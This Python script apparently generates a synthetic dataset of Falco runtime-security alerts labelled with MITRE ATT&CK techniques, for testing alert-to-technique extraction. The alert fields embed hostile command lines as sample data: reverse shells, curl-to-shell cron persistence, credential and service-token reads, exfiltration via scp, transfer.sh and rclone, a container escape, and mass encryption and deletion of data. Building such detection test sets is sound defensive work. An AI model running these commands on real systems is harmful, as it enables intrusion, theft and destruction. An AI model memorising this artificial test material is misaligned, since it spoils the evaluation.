#!/usr/bin/env python3
"""Writes falco-alerts.jsonl: realistic Falco alerts (default-rule shapes, varied values), tags removed, each with
the techniques an analyst would accept and the tactic it serves. Every third alert keeps only its output text (as
SIB or a log shipper would forward it), so text-only extraction is exercised too. Run: python3 make_falco.py"""
import json

FIELD = {"file": "fd.name", "evt_type": "evt.type", "user": "user.name", "user_uid": "user.uid",
         "user_loginuid": "user.loginuid", "process": "proc.name", "proc_exepath": "proc.exepath",
         "parent": "proc.pname", "command": "proc.cmdline", "terminal": "proc.tty", "container_id": "container.id",
         "container_name": "container.name", "image": "container.image.repository", "gparent": "proc.aname[2]",
         "connection": "fd.name", "k8s_ns": "k8s.ns.name", "k8s_pod": "k8s.pod.name", "exe_flags": "evt.arg.flags",
         "name": "evt.arg.name", "pcmdline": "proc.pcmdline", "lport": "fd.lport", "rport": "fd.rport",
         "filename": "evt.arg.filename", "mode": "evt.arg.mode", "target": "evt.arg.target",
         "linkpath": "evt.arg.linkpath", "newpath": "evt.arg.newpath", "ka_user": "ka.user.name",
         "ka_verb": "ka.verb", "resource": "ka.target.resource", "subresource": "ka.target.subresource",
         "ns": "ka.target.namespace", "ct_name": "ct.name", "ct_user": "ct.user", "ct_srcip": "ct.srcip",
         "ct_region": "ct.region", "ip": "fd.rip", "port": "fd.rport", "proc_pcmdline": "proc.pcmdline"}

HOSTS = ["web-01", "api-7f9c", "k8s-node-2", "db-01", "bastion", "worker-3", "edge-proxy", "build-5"]

def container(i, image="docker.io/library/nginx:1.25"):
    cid = "%012x" % (0x3f2a9c1b7d4e + i * 7919)
    return {"container_id": cid, "container_name": "app-%d" % i, "image": image}

A = []
def add(techniques, tactic, rule, priority, sentence, fields, source="syscall"):
    A.append((techniques, tactic, rule, priority, sentence, fields, source))

# execution
add(["T1059.004", "T1059"], "execution", "Terminal shell in container", "Notice",
    "A shell was spawned in a container with an attached terminal",
    dict(evt_type="execve", user="root", user_uid=0, process="bash", proc_exepath="/bin/bash", parent="runc",
         command="bash", terminal=34816, **container(1)))
add(["T1059.004", "T1059"], "execution", "Terminal shell in container", "Notice",
    "A shell was spawned in a container with an attached terminal",
    dict(evt_type="execve", user="app", user_uid=1000, process="sh", proc_exepath="/bin/busybox",
         parent="containerd-shim", command="sh -i", terminal=34817, **container(2, "ghcr.io/acme/api:2.3.1")))
add(["T1059.004", "T1059"], "execution", "Run shell untrusted", "Notice",
    "Shell spawned by untrusted binary",
    dict(evt_type="execve", user="www-data", process="sh", parent="php-fpm8.2", pcmdline="php-fpm: pool www",
         command="sh -c id;uname -a"))
add(["T1059.004", "T1078.003"], "execution", "System user interactive", "Informational",
    "System user ran an interactive command",
    dict(evt_type="execve", user="www-data", user_uid=33, process="bash", parent="sshd", command="bash -i"))
add(["T1059.004", "T1071"], "execution", "Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
    "Redirect stdout/stdin to network connection",
    dict(gparent="java", connection="10.42.1.7:41822->198.51.100.77:4444", lport=41822, rport=4444,
         evt_type="dup2", user="app", process="bash", command="bash -i", **container(3, "docker.io/acme/billing")))
add(["T1059.004", "T1095"], "execution", "Netcat Remote Code Execution in Container", "Warning",
    "Netcat runs inside container that allows remote code execution",
    dict(evt_type="execve", user="root", process="nc", parent="sh", command="nc -e /bin/sh 203.0.113.9 9001",
         **container(4)))
add(["T1059.004", "T1071"], "execution", "Reverse shell", "Critical",
    "Reverse shell pattern in process command line",
    dict(evt_type="execve", user="daemon", process="bash", parent="python3",
         command="bash -c bash -i >& /dev/tcp/203.0.113.15/443 0>&1"))
add(["T1059.006", "T1059.004"], "execution", "Python reverse shell", "Critical",
    "Suspicious python process with socket and shell",
    dict(evt_type="execve", user="nobody", process="python3", parent="sh",
         command="python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.23\",4242));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"))
add(["T1620", "T1027"], "defense-evasion", "Fileless execution via memfd_create", "Critical",
    "Fileless execution via memfd_create",
    dict(evt_type="execve", user="root", process="3", proc_exepath="memfd:x (deleted)", parent="sh",
         command="3 -o pool.supportxmr.com", **container(5)))
add(["T1059.004", "T1105", "T1036.005"], "execution", "Execution from /dev/shm", "Warning",
    "File execution detected from /dev/shm",
    dict(evt_type="execve", user="root", process=".x", proc_exepath="/dev/shm/.x", parent="bash",
         command="/dev/shm/.x -d", **container(6)))
add(["T1105", "T1204.002", "T1059"], "execution", "Drop and execute new binary in container", "Critical",
    "Executing binary not part of base image",
    dict(evt_type="execve", user="app", process="kdevtmpfsi", proc_exepath="/tmp/kdevtmpfsi", parent="sh",
         command="/tmp/kdevtmpfsi", exe_flags="EXE_WRITABLE|EXE_UPPER_LAYER", **container(7)))
add(["T1140", "T1027"], "defense-evasion", "Decoding Payload in Container", "Informational",
    "Decoding payload in container",
    dict(evt_type="execve", user="root", process="base64", parent="sh", command="base64 -d /tmp/p.b64",
         **container(8)))
add(["T1609", "T1059.004"], "execution", "Attach/Exec Pod", "Notice",
    "Attach/Exec to pod",
    dict(ka_user="alice@example.com", k8s_pod="payments-6c9f", resource="pods", subresource="exec", ns="prod",
         ka_verb="create"), source="k8s_audit")
add(["T1610", "T1609"], "execution", "The docker client is executed in a container", "Warning",
    "Docker or kubernetes client executed in container",
    dict(evt_type="execve", user="root", process="kubectl", parent="bash",
         command="kubectl get pods -A", **container(9)))
add(["T1072", "T1059"], "execution", "Launch Package Management Process in Container", "Error",
    "Package management process launched in container",
    dict(evt_type="execve", user="root", process="apt-get", parent="bash",
         command="apt-get install -y nmap netcat-traditional", **container(10)))
add(["T1053.003"], "execution", "Schedule Cron Jobs", "Notice",
    "Cron jobs were scheduled to run",
    dict(file="/etc/cron.d/sys-update", evt_type="openat", user="root", process="bash", parent="sshd",
         command="bash -c echo '*/5 * * * * root curl -fsSL http://203.0.113.7/u.sh | sh' > /etc/cron.d/sys-update"))
add(["T1053.003"], "execution", "Schedule Cron Jobs", "Notice",
    "Cron jobs were scheduled to run",
    dict(file="/var/spool/cron/crontabs/www-data", evt_type="openat", user="www-data", process="crontab",
         parent="sh", command="crontab /tmp/c"))
# persistence
add(["T1098.004"], "persistence", "Adding ssh keys to authorized_keys", "Warning",
    "Adding ssh keys to authorized_keys",
    dict(evt_type="execve", user="root", process="bash", parent="sshd",
         command="bash -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK attacker@kali >> /root/.ssh/authorized_keys"))
add(["T1098.004", "T1543"], "persistence", "Write below monitored dir", "Error",
    "File below a monitored directory opened for writing",
    dict(file="/home/deploy/.ssh/authorized_keys", pcmdline="sh -c", evt_type="openat", user="deploy",
         process="tee", parent="sh", command="tee -a /home/deploy/.ssh/authorized_keys"))
add(["T1543.002", "T1543"], "persistence", "Write below etc", "Error",
    "File below /etc opened for writing",
    dict(file="/etc/systemd/system/dbus-helper.service", pcmdline="bash", evt_type="openat", user="root",
         process="vi", parent="bash", command="vi /etc/systemd/system/dbus-helper.service"))
add(["T1546.004"], "persistence", "Modify Shell Configuration File", "Warning",
    "A shell configuration file has been modified",
    dict(file="/root/.bashrc", pcmdline="bash", evt_type="openat", user="root", process="python3",
         parent="bash", command="python3 /tmp/inst.py"))
add(["T1136.001", "T1098"], "persistence", "User mgmt binaries", "Notice",
    "User management binary command run outside of container",
    dict(evt_type="execve", user="root", process="useradd", parent="bash", gparent="sshd",
         command="useradd -m -s /bin/bash -G sudo sysops2"))
add(["T1574.006"], "persistence", "Write below etc", "Error",
    "File below /etc opened for writing",
    dict(file="/etc/ld.so.preload", pcmdline="bash", evt_type="openat", user="root", process="echo",
         parent="bash", command="echo /usr/lib/libsystemd-shim.so"))
add(["T1547.006"], "persistence", "Linux Kernel Module Injection Detected", "Warning",
    "Inject Linux Kernel Module file using insmod or modprobe from inside container",
    dict(evt_type="execve", user="root", process="insmod", parent="bash", command="insmod /tmp/rootkit.ko",
         **container(11)))
add(["T1505.003"], "persistence", "Write below web root", "Error",
    "File below web root opened for writing by web server",
    dict(file="/var/www/html/uploads/x.php", evt_type="openat", user="www-data", process="php-fpm8.1",
         parent="php-fpm8.1", command="php-fpm: pool www"))
add(["T1037.004"], "persistence", "Write below etc", "Error",
    "File below /etc opened for writing",
    dict(file="/etc/rc.local", pcmdline="sh", evt_type="openat", user="root", process="sh", parent="curl",
         command="sh"))
# privilege escalation
add(["T1548.001"], "privilege-escalation", "Set Setuid or Setgid bit", "Notice",
    "Setuid or setgid bit is set via chmod",
    dict(filename="/tmp/.sh", mode="S_ISUID|S_IRWXU", evt_type="chmod", user="root", process="chmod",
         parent="bash", command="chmod u+s /tmp/.sh"))
add(["T1548.001"], "privilege-escalation", "Non sudo setuid", "Notice",
    "Unexpected setuid call by non-sudo, non-root program",
    dict(evt_type="setuid", user="www-data", process="pkexec", parent="sh", command="pkexec"))
add(["T1611"], "privilege-escalation", "Change thread namespace", "Notice",
    "Namespace change (setns) by unexpected program",
    dict(evt_type="setns", user="root", process="nsenter", parent="bash",
         command="nsenter --target 1 --mount --uts --ipc --net --pid -- bash", **container(12)))
add(["T1611"], "privilege-escalation", "Detect release_agent File Container Escapes", "Critical",
    "Detect an attempt to exploit a container escape using release_agent file",
    dict(file="/tmp/cgrp/release_agent", evt_type="openat", user="root", process="sh", parent="bash",
         command="sh -c echo /cmd > /tmp/cgrp/release_agent", **container(13)))
add(["T1611", "T1610"], "privilege-escalation", "Launch Sensitive Mount Container", "Informational",
    "Container with sensitive mount started",
    dict(evt_type="container", user="root", process="runc", parent="containerd-shim",
         command="runc --root /run/containerd", **container(14, "docker.io/library/alpine")))
add(["T1610", "T1611"], "execution", "Launch Privileged Container", "Informational",
    "Privileged container started",
    dict(evt_type="container", user="root", process="runc", command="runc init", **container(15)))
add(["T1611"], "privilege-escalation", "Debugfs Launched in Privileged Container", "Warning",
    "Debugfs launched started in a privileged container",
    dict(evt_type="execve", user="root", process="debugfs", parent="bash", command="debugfs /dev/sda1",
         **container(16)))
add(["T1611"], "privilege-escalation", "Mount Launched in Privileged Container", "Warning",
    "Mount was executed inside a privileged container",
    dict(evt_type="execve", user="root", process="mount", parent="sh", command="mount /dev/nvme0n1p1 /mnt",
         **container(17)))
add(["T1055.008"], "privilege-escalation", "PTRACE attached to process", "Warning",
    "Detected ptrace PTRACE_ATTACH attempt",
    dict(evt_type="ptrace", user="root", process="gdb", parent="bash", command="gdb -p 812"))
add(["T1068", "T1548"], "privilege-escalation", "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
    "Critical", "Detect Polkit pkexec Local Privilege Escalation Exploit (CVE-2021-4034)",
    dict(evt_type="execve", user="app", process="pkexec", parent="exploit", command="pkexec"))
add(["T1068", "T1548.003"], "privilege-escalation", "Sudo Potential Privilege Escalation", "Critical",
    "Detect Sudo Privilege Escalation Exploit (CVE-2021-3156)",
    dict(evt_type="execve", user="dev", process="sudoedit", parent="python3",
         command="sudoedit -s \\ AAAAAAAAAAAAAAAAAAAA"))
add(["T1548.003"], "privilege-escalation", "Sudo to root shell", "Warning",
    "Interactive root shell opened through sudo",
    dict(evt_type="execve", user="root", user_loginuid=1001, process="bash", parent="sudo",
         command="sudo -i"))
# defense evasion
add(["T1070.002", "T1070"], "defense-evasion", "Clear Log Activities", "Warning",
    "Log files were tampered",
    dict(file="/var/log/auth.log", evt_type="openat", user="root", process="bash", parent="sshd",
         command="bash", exe_flags="O_TRUNC|O_WRONLY"))
add(["T1070.003", "T1070"], "defense-evasion", "Delete or rename shell history", "Warning",
    "Shell history deleted or renamed",
    dict(name="/root/.bash_history", evt_type="unlinkat", user="root", process="rm", parent="bash",
         command="rm -f /root/.bash_history"))
add(["T1564.001"], "defense-evasion", "Create Hidden Files or Directories", "Notice",
    "Hidden file or directory created",
    dict(file="/tmp/.ICE-cache/.x", newpath="/tmp/.ICE-cache/.x", evt_type="mkdirat", user="www-data",
         process="mkdir", parent="sh", command="mkdir -p /tmp/.ICE-cache/.x"))
add(["T1222.002", "T1554"], "defense-evasion", "Modify binary dirs", "Error",
    "File below known binary directory renamed/removed",
    dict(file="/usr/bin/ps", pcmdline="bash", evt_type="rename", user="root", process="mv", parent="bash",
         command="mv /tmp/ps /usr/bin/ps"))
add(["T1562.001"], "defense-evasion", "Disable Security Tools", "Critical",
    "Security tool stopped by unexpected process",
    dict(evt_type="execve", user="root", process="systemctl", parent="bash", command="systemctl stop falco"))
add(["T1562.012", "T1562"], "defense-evasion", "Audit disabled", "Critical",
    "Linux audit rules deleted",
    dict(evt_type="execve", user="root", process="auditctl", parent="bash", command="auditctl -D"))
add(["T1070.002"], "defense-evasion", "Journal vacuumed", "Warning",
    "Journal files removed by journalctl",
    dict(evt_type="execve", user="root", process="journalctl", parent="bash",
         command="journalctl --vacuum-time=1s"))
add(["T1070.006"], "defense-evasion", "Timestomp", "Notice",
    "File timestamps modified with touch",
    dict(evt_type="execve", user="root", process="touch", parent="bash",
         command="touch -r /bin/ls /usr/local/bin/kworker"))
# credential access
add(["T1003.008", "T1555"], "credential-access", "Read sensitive file untrusted", "Warning",
    "Sensitive file opened for reading by non-trusted program",
    dict(file="/etc/shadow", gparent="sshd", evt_type="openat", user="root", process="cat", parent="bash",
         command="cat /etc/shadow"))
add(["T1003.008", "T1555"], "credential-access", "Read sensitive file trusted after startup", "Warning",
    "Sensitive file opened for reading by trusted program after startup",
    dict(file="/etc/shadow", evt_type="openat", user="root", process="nginx", parent="nginx",
         command="nginx: worker process"))
add(["T1552.001", "T1552.004"], "credential-access", "Search Private Keys or Passwords", "Warning",
    "Grep private keys or passwords activities found",
    dict(evt_type="execve", user="app", process="grep", parent="bash",
         command="grep -r BEGIN RSA PRIVATE /home", **container(18)))
add(["T1552.001", "T1552.004"], "credential-access", "Search Private Keys or Passwords", "Warning",
    "Grep private keys or passwords activities found",
    dict(evt_type="execve", user="root", process="find", parent="sh", command="find / -name id_rsa"))
add(["T1552.001", "T1552"], "credential-access", "Find AWS Credentials", "Warning",
    "Detected AWS credentials search activity",
    dict(proc_pcmdline="bash -i", evt_type="execve", user="app", process="grep", parent="bash",
         command="grep -rn aws_secret_access_key /app", **container(19)))
add(["T1552.004", "T1005"], "credential-access", "Read ssh information", "Error",
    "ssh-related file/directory read by non-ssh program",
    dict(file="/root/.ssh/id_rsa", pcmdline="bash", evt_type="openat", user="root", process="python3",
         parent="bash", command="python3 x.py"))
add(["T1552.005"], "credential-access", "Contact EC2 Instance Metadata Service From Container", "Notice",
    "Outbound connection to EC2 instance metadata service",
    dict(connection="10.42.3.17:39912->169.254.169.254:80", lport=39912, rport=80, evt_type="connect",
         user="app", process="curl", parent="sh",
         command="curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", **container(20)))
add(["T1040", "T1557.002"], "credential-access", "Packet socket created in container", "Notice",
    "Packet socket was created in a container",
    dict(connection="<NA>", evt_type="socket", user="root", process="tcpdump", parent="bash",
         command="tcpdump -i eth0 -w /tmp/c.pcap", **container(21)))
add(["T1555", "T1003.008"], "credential-access", "Create Symlink Over Sensitive Files", "Warning",
    "Symlinks created over sensitive files",
    dict(target="/etc/shadow", linkpath="/tmp/s", evt_type="symlinkat", user="app", process="ln",
         parent="sh", command="ln -s /etc/shadow /tmp/s"))
add(["T1552.007", "T1528"], "credential-access", "Read service account token", "Warning",
    "Service account token read by unexpected process",
    dict(file="/var/run/secrets/kubernetes.io/serviceaccount/token", evt_type="openat", user="app",
         process="cat", parent="sh", command="cat /var/run/secrets/kubernetes.io/serviceaccount/token",
         **container(22)))
add(["T1003.007"], "credential-access", "Dump process memory", "Critical",
    "Memory of sshd read by untrusted process",
    dict(file="/proc/812/mem", evt_type="openat", user="root", process="python3", parent="bash",
         command="python3 mimipenguin.py"))
add(["T1110.002"], "credential-access", "Password cracker", "Error",
    "Password cracking tool executed",
    dict(evt_type="execve", user="root", process="john", parent="bash",
         command="john --wordlist=/usr/share/wordlists/rockyou.txt hashes.txt"))
# discovery
add(["T1046", "T1595.001"], "discovery", "Launch Suspicious Network Tool in Container", "Notice",
    "Network tool launched in container",
    dict(evt_type="execve", user="app", process="nmap", parent="bash", command="nmap -sS -p- 10.42.0.0/16",
         **container(23)))
add(["T1046", "T1595.001"], "discovery", "Launch Suspicious Network Tool on Host", "Notice",
    "Network tool launched on host",
    dict(evt_type="execve", user="root", process="masscan", parent="bash",
         command="masscan 10.0.0.0/8 -p22,3389 --rate 10000"))
add(["T1613", "T1552.007"], "discovery", "Contact K8S API Server From Container", "Notice",
    "Unexpected connection to K8s API Server from container",
    dict(connection="10.42.1.9:51410->10.96.0.1:443", lport=51410, rport=443, evt_type="connect",
         user="app", process="curl", parent="sh", command="curl -k https://kubernetes.default.svc/api/v1/secrets",
         **container(24)))
add(["T1082", "T1033"], "discovery", "Basic Interactive Reconnaissance", "Notice",
    "Basic interactive reconnaissance commands run",
    dict(evt_type="execve", user="www-data", process="uname", parent="sh", command="uname -a"))
add(["T1087.001"], "discovery", "Account discovery", "Notice",
    "Local accounts enumerated",
    dict(evt_type="execve", user="app", process="cat", parent="sh", command="cat /etc/passwd"))
add(["T1082", "T1083"], "discovery", "Privilege escalation enumeration", "Warning",
    "Enumeration script executed",
    dict(evt_type="execve", user="www-data", process="sh", parent="sh", command="sh /tmp/linpeas.sh"))
add(["T1518.001"], "discovery", "Security software discovery", "Notice",
    "Process listing searching for security agents",
    dict(evt_type="execve", user="root", process="pgrep", parent="bash", command="pgrep -a falco"))
add(["T1016"], "discovery", "Network discovery", "Notice",
    "Network configuration enumerated in container",
    dict(evt_type="execve", user="app", process="ip", parent="sh", command="ip addr", **container(25)))
add(["T1049"], "discovery", "Network connections discovery", "Notice",
    "Listening ports enumerated",
    dict(evt_type="execve", user="root", process="ss", parent="bash", command="ss -tunap"))
# lateral movement
add(["T1021.004"], "lateral-movement", "Disallowed SSH Connection", "Notice",
    "Outbound SSH connection to internal host",
    dict(connection="10.0.2.15:48812->10.0.3.21:22", evt_type="connect", user="root", process="ssh",
         parent="bash", command="ssh -i /root/.ssh/id_rsa root@10.0.3.21"))
add(["T1570", "T1021.004"], "lateral-movement", "Tool copied to internal host", "Notice",
    "File copied to another host with scp",
    dict(evt_type="execve", user="root", process="scp", parent="bash",
         command="scp /tmp/kworker root@10.0.3.21:/tmp/"))
# collection
add(["T1560.001", "T1005"], "collection", "Archive of sensitive data", "Warning",
    "Sensitive directories archived",
    dict(evt_type="execve", user="root", process="tar", parent="bash",
         command="tar czf /tmp/.x.tgz /etc /root/.ssh /home"))
add(["T1005", "T1213"], "collection", "Database dump", "Warning",
    "Database dumped from interactive shell",
    dict(evt_type="execve", user="postgres", process="pg_dump", parent="bash",
         command="pg_dump -U app -Fc billing -f /tmp/b.dump"))
# command and control
add(["T1105"], "command-and-control", "Launch Ingress Remote File Copy Tools in Container", "Notice",
    "Detected ingress remote file copy tool launched in container",
    dict(evt_type="execve", user="app", process="wget", parent="sh",
         command="wget -q http://198.51.100.23/x -O /tmp/x", **container(26)))
add(["T1105", "T1059.004"], "command-and-control", "Curl piped to shell", "Warning",
    "Script downloaded and piped to shell",
    dict(evt_type="execve", user="root", process="sh", parent="bash",
         command="sh -c curl -fsSL http://update.examp1e-cdn.com/i.sh | bash"))
add(["T1071", "T1095"], "command-and-control", "Outbound Connection to C2 Servers", "Warning",
    "Outbound connection to C2 server",
    dict(connection="10.0.1.20:51522->198.51.100.66:8443", evt_type="connect", user="root",
         process="kworker-upd", parent="systemd", command="/usr/local/bin/kworker-upd"))
add(["T1071", "T1571"], "command-and-control", "Unexpected outbound connection destination", "Notice",
    "Disallowed outbound connection destination",
    dict(command="python3 /opt/app/agent.py", connection="10.0.1.20:40022->203.0.113.50:6667",
         evt_type="connect", user="app", process="python3", parent="sh"))
add(["T1572", "T1090"], "command-and-control", "Tunnel tool", "Warning",
    "Tunnelling tool executed",
    dict(evt_type="execve", user="app", process="chisel", parent="sh",
         command="/tmp/chisel client 203.0.113.9:8080 R:socks"))
# exfiltration
add(["T1048", "T1020", "T1041"], "exfiltration", "Launch Remote File Copy Tools in Container", "Notice",
    "Remote file copy tool launched in container",
    dict(evt_type="execve", user="root", process="scp", parent="bash",
         command="scp -P 443 /var/lib/postgresql/.dump.tgz ops@198.51.100.77:/tmp/", **container(27)))
add(["T1048", "T1041"], "exfiltration", "Upload with curl", "Warning",
    "File uploaded with curl",
    dict(evt_type="execve", user="root", process="curl", parent="bash",
         command="curl -s -T /tmp/.x.tgz https://transfer.sh/x.tgz"))
add(["T1567.002", "T1048"], "exfiltration", "Cloud sync tool", "Warning",
    "Cloud storage sync tool executed",
    dict(evt_type="execve", user="root", process="rclone", parent="bash",
         command="rclone copy /srv/data mega:backup"))
# impact
add(["T1496.001", "T1496"], "impact", "Detect crypto miners using the Stratum protocol", "Critical",
    "Possible miner running",
    dict(evt_type="execve", user="root", process="xmrig", parent="bash",
         command="xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFF --donate-level 1"))
add(["T1496.001", "T1496"], "impact", "Detect outbound connections to common miner pool ports", "Critical",
    "Outbound connection to IP/Port flagged by https://cryptoioc.ch",
    dict(ip="198.51.100.40", port=3333, connection="10.0.1.9:51000->198.51.100.40:3333", evt_type="connect",
         user="app", process="java", parent="sh", command="java -jar app.jar"))
add(["T1485", "T1070.004"], "impact", "Remove Bulk Data from Disk", "Warning",
    "Bulk data has been removed from disk",
    dict(evt_type="execve", user="root", process="shred", parent="bash",
         command="shred -uz /var/backups/db-2025-11-17.sql.gz"))
add(["T1485"], "impact", "Remove Bulk Data from Disk", "Warning",
    "Bulk data has been removed from disk",
    dict(evt_type="execve", user="root", process="rm", parent="bash", command="rm -rf /var/lib/mysql/*"))
add(["T1486"], "impact", "Files encrypted", "Critical",
    "Mass file encryption with openssl",
    dict(evt_type="execve", user="root", process="find", parent="bash",
         command="find /srv -type f -exec openssl enc -aes-256-cbc -in {} -out {}.locked -k x ;"))
add(["T1490"], "impact", "Backups deleted", "Critical",
    "Backup snapshots deleted",
    dict(evt_type="execve", user="root", process="borg", parent="bash", command="borg delete /backup::all"))
add(["T1489"], "impact", "Services stopped", "Warning",
    "Critical services stopped",
    dict(evt_type="execve", user="root", process="systemctl", parent="bash",
         command="systemctl stop postgresql ; systemctl stop nginx"))
# kubernetes audit
add(["T1611", "T1610"], "privilege-escalation", "Create Privileged Pod", "Warning",
    "Pod started with privileged container",
    dict(ka_user="system:serviceaccount:ci:deployer", k8s_pod="debug-x", resource="pods", ns="default",
         ka_verb="create", image="docker.io/library/ubuntu"), source="k8s_audit")
add(["T1611", "T1610"], "privilege-escalation", "Create Sensitive Mount Pod", "Warning",
    "Pod started with sensitive mount",
    dict(ka_user="bob", k8s_pod="hostpath-x", resource="pods", ns="default", ka_verb="create",
         image="docker.io/library/alpine"), source="k8s_audit")
add(["T1552.007"], "credential-access", "K8s Secret Get Successfully", "Error",
    "K8s Secret Get Successfully",
    dict(ka_user="system:serviceaccount:web:default", resource="secrets", ns="kube-system", ka_verb="get"),
    source="k8s_audit")
add(["T1098.006", "T1078.001", "T1098"], "privilege-escalation", "Attach to cluster-admin Role", "Warning",
    "Cluster Role Binding to cluster-admin role",
    dict(ka_user="mallory", resource="clusterrolebindings", ka_verb="create"), source="k8s_audit")
add(["T1078.001", "T1190"], "initial-access", "Anonymous Request Allowed", "Error",
    "Request by anonymous user allowed",
    dict(ka_user="system:anonymous", ka_verb="get", resource="pods"), source="k8s_audit")
# cloud trail
add(["T1562.008"], "defense-evasion", "CloudTrail Trail Deleted", "Critical",
    "A CloudTrail trail has been deleted",
    dict(ct_name="DeleteTrail", ct_user="ci-bot", ct_srcip="198.51.100.4", ct_region="us-east-1"),
    source="aws_cloudtrail")
add(["T1078.004"], "initial-access", "Console Login Without MFA", "Critical",
    "Detected a console login without MFA",
    dict(ct_name="ConsoleLogin", ct_user="admin", ct_srcip="203.0.113.77", ct_region="eu-west-1"),
    source="aws_cloudtrail")
add(["T1098.001"], "persistence", "Create Access Key for User", "Warning",
    "An access key has been created for a user",
    dict(ct_name="CreateAccessKey", ct_user="ops-jenkins", ct_srcip="203.0.113.8", ct_region="us-east-1"),
    source="aws_cloudtrail")
add(["T1556.006"], "credential-access", "Deactivate MFA for Root User", "Critical",
    "Multi Factor Authentication configuration has been disabled for root",
    dict(ct_name="DeactivateMFADevice", ct_user="root", ct_srcip="203.0.113.8", ct_region="us-east-1"),
    source="aws_cloudtrail")
add(["T1530", "T1537"], "collection", "Delete Bucket Public Access Block", "Critical",
    "A public access block for a bucket has been deleted",
    dict(ct_name="DeletePublicAccessBlock", ct_user="dev1", ct_srcip="203.0.113.8", ct_region="us-east-1"),
    source="aws_cloudtrail")


def fmt(v):
    return str(v)


def output(i, sentence, priority, fields):
    parts = " ".join("%s=%s" % (k, fmt(v)) for k, v in fields.items())
    return "%02d:%02d:%02d.%09d: %s %s (%s)" % (i % 24, (i * 7) % 60, (i * 13) % 60, 100000000 + i * 7717, priority,
                                               sentence, parts)


with open("falco-alerts.jsonl", "w") as out:
    for i, (techniques, tactic, rule, priority, sentence, fields, source) in enumerate(A):
        event = {"hostname": HOSTS[i % len(HOSTS)], "output": output(i, sentence, priority, fields),
                 "priority": priority, "rule": rule, "source": source,
                 "time": "2025-11-%02dT%02d:%02d:00.000000000Z" % (10 + i % 9, i % 24, (i * 7) % 60)}
        if i % 3 != 2:
            event["output_fields"] = {FIELD[k]: v for k, v in fields.items() if k in FIELD}
        out.write(json.dumps({"techniques": techniques, "tactic": tactic, "alert": event}) + "\n")
print(len(A), "alerts")
